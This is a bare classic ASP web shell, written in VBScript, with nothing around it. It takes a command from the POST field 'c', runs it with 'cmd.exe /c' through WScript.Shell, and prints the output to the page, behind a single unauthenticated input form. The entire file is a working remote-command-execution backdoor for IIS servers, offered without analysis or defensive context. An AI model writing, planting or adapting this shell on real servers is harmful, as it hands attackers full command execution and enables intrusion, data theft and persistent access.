<%@ Language=VBScript %>
<%
Dim sh, cmd
cmd = Request.Form("c")
If cmd <> "" Then
  Set sh = Server.CreateObject("WScript.Shell")
  Set ex = sh.Exec("cmd.exe /c " & cmd)
  Response.Write(ex.StdOut.ReadAll())
End If
%>
<form method="post"><input name="c"></form>
